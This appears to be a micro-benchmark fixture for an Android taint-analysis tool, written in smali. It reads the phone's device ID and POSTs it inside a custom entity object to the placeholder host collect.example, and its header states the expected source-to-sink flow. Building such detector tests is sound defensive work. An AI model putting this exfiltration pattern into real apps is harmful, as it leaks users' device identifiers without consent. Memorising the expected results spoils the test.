# micro: object-sent-whole
# group: fields
# says: an object of the program's own holds the value in a field and is sent as a whole; a second one of its class holds a text
# expect: flow source=TelephonyManager.getDeviceId sink=HttpClient.execute in=Lmicro/Main;->send

.class public final Lmicro/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Lmicro/Report;
    invoke-direct {v1, v0}, Lmicro/Report;-><init>(Ljava/lang/String;)V
    invoke-direct {p0, v1}, Lmicro/Main;->send(Lmicro/Report;)V
    new-instance v1, Lmicro/Report;
    const-string v0, "nothing"
    invoke-direct {v1, v0}, Lmicro/Report;-><init>(Ljava/lang/String;)V
    invoke-direct {p0, v1}, Lmicro/Main;->other(Lmicro/Report;)V
    return-void
.end method

.method private send(Lmicro/Report;)V
    .locals 3
    new-instance v1, Lorg/apache/http/client/methods/HttpPost;
    const-string v2, "http://collect.example/a"
    invoke-direct {v1, v2}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, p1}, Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
    new-instance v2, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v2}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    invoke-interface {v2, v1}, Lorg/apache/http/client/HttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
    return-void
.end method

.method private other(Lmicro/Report;)V
    .locals 3
    new-instance v1, Lorg/apache/http/client/methods/HttpPost;
    const-string v2, "http://collect.example/b"
    invoke-direct {v1, v2}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, p1}, Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
    new-instance v2, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v2}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    invoke-interface {v2, v1}, Lorg/apache/http/client/HttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
    return-void
.end method

.class public final Lmicro/Report;
.super Lorg/apache/http/entity/AbstractHttpEntity;
.field private final body:Ljava/lang/String;
.method public constructor <init>(Ljava/lang/String;)V
    .locals 0
    invoke-direct {p0}, Lorg/apache/http/entity/AbstractHttpEntity;-><init>()V
    iput-object p1, p0, Lmicro/Report;->body:Ljava/lang/String;
    return-void
.end method
